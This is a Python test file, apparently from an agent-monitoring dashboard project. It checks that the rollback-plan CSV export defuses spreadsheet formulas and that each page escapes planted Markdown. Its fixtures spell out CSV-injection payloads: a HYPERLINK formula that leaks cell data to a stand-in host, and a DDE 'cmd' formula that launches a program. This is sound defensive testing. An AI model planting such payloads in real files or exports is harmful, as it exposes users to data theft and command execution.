"""Hostile event values stay text: the rollback plan CSV holds no cell a spreadsheet would run as a formula, and
every page shows planted Markdown (remote images, links, colours, math) as the characters it is."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from agentwatch.core.home import Home
from agentwatch.dashboards import audit_trail as trail
from agentwatch.dashboards.escape import md
from agentwatch.store.reader import open_reader
from tests.checks_support import T0, iso, store_events
from tests.dashboard_support import (
    open_dashboard,  # noqa: F401  (autouse: no key asked)
    open_page,
    planted,
    shown_markdown,
    store_hostile,
)

# Cells a spreadsheet would run, from OWASP's CSV injection page, and the full-width forms.
FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "＝1+1", "＠SUM(1)"]
DANGEROUS_START = tuple("=+-@\t\r＝＋－＠")


def formula_events() -> list[dict[str, Any]]:
    """Reversible writes and an irreversible one whose agent, version, resource and field names are formulas."""
    events = []
    for n, formula in enumerate(FORMULAS):
        events.append({
            "event_id": f"f{n}", "ts": iso(T0 + timedelta(minutes=n)), "agent_id": formula,
            "agent_version": formula, "action": "crm.update_field",
            "resource": {"type": formula, "id": formula}, "status": "ok",
            "before": {formula: formula}, "after": {formula: "safe"}})
    events.append({"event_id": "=1+2", "ts": iso(T0 + timedelta(hours=1)), "agent_id": "=cmd|' /C calc'!A0",
                   "action": "crm.update_field", "resource": {"type": "lead", "id": "@A1"}, "status": "ok",
                   "after": {"-field": 1}})
    return events


def test_the_rollback_csv_neutralises_every_formula_cell(home: Home) -> None:
    """Read back, no cell starts a formula, each hostile value is there behind one leading quote, and every
    field of the file is quoted."""
    store_events(home, actions=formula_events())
    selection = trail.Selection(T0 - timedelta(hours=1), T0 + timedelta(hours=2))
    con = open_reader(home)
    try:
        text = trail.plan_csv(con, selection)
    finally:
        con.close()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == trail.CSV_COLUMNS and len(rows) == 1 + len(FORMULAS) + 1
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START)]
    quoted = {cell for cell in cells if cell.startswith("'")}
    for formula in FORMULAS:
        assert "'" + formula in quoted
    # the irreversible row: its event id, agent, resource and written field name, quoted the same way
    assert {"'=1+2", "'=cmd|' /C calc'!A0", "'@A1", "'-field"} <= quoted
    # every field quoted: a separator or a quote inside a value cannot open a cell of its own
    assert re.fullmatch(r'(?:"(?:[^"]|"")*"[,\n])+', text)


PAGES = ["incidents", "agents", "schema", "notifications", "routing", "outcomes", "pipeline", "audit"]


def assert_escaped(at: AppTest, page: str, bad: str) -> None:
    """No planted Markdown is live anywhere on the page."""
    assert not at.exception, at.exception
    live = {text: planted(text) for text in shown_markdown(at) if planted(text)}
    assert not live, f"{page}: event values rendered as Markdown: {live}"


@pytest.fixture
def hostile_home(home: Home) -> tuple[Home, str]:
    return home, store_hostile(home, "http://127.0.0.1:9")


@pytest.mark.parametrize("page", PAGES)
def test_every_page_shows_planted_markdown_as_text(hostile_home: tuple[Home, str], page: str,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Each page over events, incidents, a pause and a silence holding hostile Markdown in every text field:
    nothing of it renders as Markdown, and where the page names the value it shows it escaped."""
    home, bad = hostile_home
    at = open_page(monkeypatch, home, page)
    assert_escaped(at, page, bad)
    texts = shown_markdown(at)
    if page == "incidents":  # open the incident about the hostile agent, then the linked one
        at.selectbox(key="incident_pick").select("INC-1").run()
        assert_escaped(at, page, bad)
        texts = shown_markdown(at)
        at.selectbox(key="incident_pick").select("INC-2").run()
        assert_escaped(at, page, bad)
        texts += shown_markdown(at)
    if page == "audit":  # one event in full: approver, authorized by, error, trace, rationale
        at.selectbox(key="audit_range").select("Last 7 days").run()
        at.selectbox(key="audit_event").select(f"{bad} 3").run()
        assert_escaped(at, page, bad)
        texts = shown_markdown(at)
        facts = next(t for t in texts if "**rationale:**" in t)
        for name in ("agent", "approval", "authorized by", "error", "trace", "rationale"):
            assert f"**{name}:** {md(bad)}" in facts
    if page in ("incidents", "agents", "audit", "notifications", "schema"):
        assert any(md(bad) in text for text in texts), f"{page} does not name the hostile value"
